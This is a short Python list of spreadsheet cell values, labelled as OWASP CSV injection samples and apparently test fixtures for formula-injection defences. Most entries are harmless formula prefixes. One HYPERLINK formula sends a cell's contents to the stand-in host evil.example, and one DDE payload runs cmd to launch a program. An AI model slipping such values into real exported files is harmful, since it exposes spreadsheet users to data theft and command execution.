"""Cell values a spreadsheet would evaluate as formulas (OWASP CSV injection)."""

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A2,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
